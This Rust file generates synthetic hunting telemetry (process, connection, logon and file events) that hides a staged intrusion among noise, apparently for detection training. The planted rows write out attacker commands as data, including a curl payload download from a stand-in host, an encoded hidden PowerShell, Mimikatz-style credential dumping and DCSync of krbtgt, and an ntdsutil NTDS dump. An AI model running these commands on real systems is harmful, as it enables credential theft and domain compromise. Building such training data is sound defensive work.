//! Hunting rows: processes, connections, logons and files of the three hosts and of twenty others.

use kql::time::SECOND;
use serde_json::{Value, json};

use super::{
    Lines,
    cast::{
        ACCOUNT, COMMAND_HOST, COMMAND_IP, CONTROLLER, DESK, DOMAIN, Host, Story, TOOL_SHA1,
        TOOL_SHA256, WEB, iso,
    },
};

const PROGRAMS: [(&str, &str, &str); 8] = [
    ("svchost.exe", "services.exe", "svchost.exe -k netsvcs -p"),
    ("chrome.exe", "explorer.exe", "chrome.exe --type=renderer"),
    ("outlook.exe", "explorer.exe", "outlook.exe /recycle"),
    ("teams.exe", "explorer.exe", "teams.exe --system-initiated"),
    ("powershell.exe", "cmd.exe", "powershell.exe -File C:\\Ops\\inventory.ps1"),
    ("cmd.exe", "explorer.exe", "cmd.exe /c dir"),
    ("msiexec.exe", "services.exe", "msiexec.exe /V"),
    ("excel.exe", "explorer.exe", "excel.exe /dde"),
];

/// Every table of the scenario.
pub fn tables(story: &mut Story) -> Vec<(&'static str, Lines)> {
    vec![
        ("DeviceProcessEvents.ndjson", processes(story)),
        ("DeviceNetworkEvents.ndjson", connections(story)),
        ("DeviceLogonEvents.ndjson", logons(story)),
        ("DeviceFileEvents.ndjson", files(story)),
    ]
}

/// A machine of the noise: name and device id.
fn bystander(story: &mut Story) -> (String, String) {
    let number = story.dice.below(20);
    (format!("ws-lon-{:02}.contoso.example", 20 + number), format!("{number:040x}"))
}

fn row(
    story: &mut Story,
    at: i64,
    device: (&str, &str),
    action: &str,
    members: Value,
) -> (i64, Value) {
    let mut row = json!({
        "Timestamp": iso(at), "DeviceId": device.1, "DeviceName": device.0, "ActionType": action,
        "ReportId": story.dice.below(1 << 31),
    });
    if let (Some(row), Value::Object(members)) = (row.as_object_mut(), members) {
        row.extend(members);
    }
    (at, row)
}

fn device(host: &Host<'static>) -> (&'static str, &'static str) {
    (host.dns, host.id)
}

fn processes(story: &mut Story) -> Lines {
    let mut lines = Lines::new();
    for _ in 0..6000 {
        let (at, (name, id)) = (story.sometime(), bystander(story));
        let (file, parent, command) = *story.dice.pick(&PROGRAMS);
        let members = json!({
            "FileName": file, "FolderPath": format!("C:\\Program Files\\{file}"),
            "SHA1": format!("{:040x}", file.len() * 7919), "ProcessCommandLine": command,
            "ProcessId": 1000 + story.dice.below(60_000), "AccountDomain": DOMAIN,
            "AccountName": format!("user{:02}", story.dice.below(40)),
            "InitiatingProcessFileName": parent, "InitiatingProcessId": story.dice.below(5000)
        });
        lines.push(row(story, at, (&name, &id), "ProcessCreated", members));
    }
    let told = [
        (20, &WEB, "sh", "php-fpm", "www-data", "sh -c id; uname -a"),
        (26, &WEB, "useradd", "sh", "root", "useradd -m -s /bin/bash svc-cache"),
        (30, &WEB, "curl", "sh", "svc-cache", "curl -s https://cdn-updates.example/a -o /tmp/.a"),
        (
            112,
            &DESK,
            "powershell.exe",
            "explorer.exe",
            ACCOUNT,
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        ),
        (
            120,
            &DESK,
            "kat.exe",
            "powershell.exe",
            ACCOUNT,
            "kat.exe privilege::debug sekurlsa::logonpasswords exit",
        ),
        (133, &DESK, "whoami.exe", "powershell.exe", ACCOUNT, "whoami.exe /groups"),
        (135, &DESK, "nltest.exe", "powershell.exe", ACCOUNT, "nltest.exe /dclist:contoso"),
        (
            181,
            &CONTROLLER,
            "cmd.exe",
            "services.exe",
            "svc-sync",
            "cmd.exe /c C:\\Windows\\Temp\\kat.exe lsadump::dcsync /user:krbtgt",
        ),
        (
            230,
            &CONTROLLER,
            "ntdsutil.exe",
            "cmd.exe",
            "svc-sync",
            "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\x\" q q",
        ),
        (
            244,
            &CONTROLLER,
            "7z.exe",
            "cmd.exe",
            "svc-sync",
            "7z.exe a -pinfected C:\\Windows\\Temp\\x.7z C:\\Windows\\Temp\\x",
        ),
    ];
    for (minute, host, file, parent, account, command) in told {
        let at = story.at(minute, 55);
        let is_tool = command.contains("kat.exe");
        let members = json!({
            "FileName": file, "ProcessCommandLine": command, "AccountName": account,
            "AccountDomain": DOMAIN, "InitiatingProcessFileName": parent,
            "ProcessId": 4000 + minute, "InitiatingProcessId": 3000 + minute,
            "SHA1": if is_tool { TOOL_SHA1.to_owned() } else { story.dice.hex(40) },
            "SHA256": if is_tool { TOOL_SHA256.to_owned() } else { story.dice.hex(64) },
            "ProcessIntegrityLevel": "High"
        });
        lines.push(row(story, at, device(host), "ProcessCreated", members));
    }
    lines
}

fn connections(story: &mut Story) -> Lines {
    let mut lines = Lines::new();
    for _ in 0..4000 {
        let (at, (name, id)) = (story.sometime(), bystander(story));
        let address = format!("192.0.2.{}", 1 + story.dice.below(250));
        let members = json!({
            "RemoteIP": address, "RemotePort": *story.dice.pick(&[443_u16, 443, 80, 53]),
            "RemoteIPType": "Public", "Protocol": "Tcp", "LocalPort": 49_152 + story.dice.below(16_000),
            "InitiatingProcessFileName": story.dice.pick(&PROGRAMS).0,
            "InitiatingProcessId": story.dice.below(60_000)
        });
        lines.push(row(story, at, (&name, &id), "ConnectionSuccess", members));
    }
    for (host, process, from, to) in [
        (&WEB, "curl", 31, 330),
        (&DESK, "powershell.exe", 118, 330),
        (&CONTROLLER, "svchost.exe", 204, 330),
    ] {
        // The beacon: every five minutes, a few seconds early or late.
        for minute in (from..to).step_by(5) {
            let at = story.at(minute, 0) + story.dice.below(7) as i64 * SECOND;
            let members = json!({
                "RemoteIP": COMMAND_IP, "RemotePort": 443, "RemoteUrl": COMMAND_HOST,
                "RemoteIPType": "Public", "Protocol": "Tcp", "LocalIP": host.ip,
                "LocalPort": 49_152 + story.dice.below(16_000), "InitiatingProcessFileName": process,
                "InitiatingProcessId": 4000 + from
            });
            lines.push(row(story, at, device(host), "ConnectionSuccess", members));
        }
    }
    lines
}

fn logons(story: &mut Story) -> Lines {
    let mut lines = Lines::new();
    for _ in 0..1500 {
        let (at, (name, id)) = (story.sometime(), bystander(story));
        let failed = story.dice.below(20) == 0;
        let action = if failed { "LogonFailed" } else { "LogonSuccess" };
        let members = json!({
            "LogonType": *story.dice.pick(&["Interactive", "Network", "Unlock"]),
            "AccountDomain": DOMAIN, "AccountName": format!("user{:02}", story.dice.below(40)),
            "FailureReason": if failed { "InvalidUserNameOrPassword" } else { "" }
        });
        lines.push(row(story, at, (&name, &id), action, members));
    }
    for (minute, host, from, kind, account) in [
        (103, &DESK, &WEB, "RemoteInteractive", ACCOUNT),
        (180, &CONTROLLER, &DESK, "Network", "svc-sync"),
    ] {
        let at = story.at(minute, 12);
        let members = json!({
            "LogonType": kind, "AccountDomain": DOMAIN, "AccountName": account,
            "RemoteIP": from.ip, "RemoteDeviceName": from.name, "RemoteIPType": "Private",
            "IsLocalAdmin": true
        });
        lines.push(row(story, at, device(host), "LogonSuccess", members));
    }
    lines
}

fn files(story: &mut Story) -> Lines {
    let mut lines = Lines::new();
    for _ in 0..2500 {
        let (at, (name, id)) = (story.sometime(), bystander(story));
        let file = format!("report-{}.xlsx", story.dice.below(500));
        let members = json!({
            "FileName": file, "FolderPath": format!("C:\\Users\\Public\\{file}"),
            "SHA1": story.dice.hex(40), "FileSize": story.dice.below(1 << 22),
            "InitiatingProcessFileName": "excel.exe"
        });
        lines.push(row(story, at, (&name, &id), "FileCreated", members));
    }
    for (minute, host, file, folder, process) in [
        (12, &WEB, "cache.php", "/var/www/html/up/cache.php", "postgres"),
        (117, &DESK, "kat.exe", "C:\\Windows\\Temp\\kat.exe", "powershell.exe"),
        (180, &CONTROLLER, "kat.exe", "C:\\Windows\\Temp\\kat.exe", "System"),
        (246, &CONTROLLER, "x.7z", "C:\\Windows\\Temp\\x.7z", "7z.exe"),
    ] {
        let at = story.at(minute, 30);
        let is_tool = file == "kat.exe";
        let members = json!({
            "FileName": file, "FolderPath": folder, "InitiatingProcessFileName": process,
            "SHA1": if is_tool { TOOL_SHA1.to_owned() } else { story.dice.hex(40) },
            "SHA256": if is_tool { TOOL_SHA256.to_owned() } else { story.dice.hex(64) },
            "FileSize": 1_355_264
        });
        lines.push(row(story, at, device(host), "FileCreated", members));
    }
    lines
}
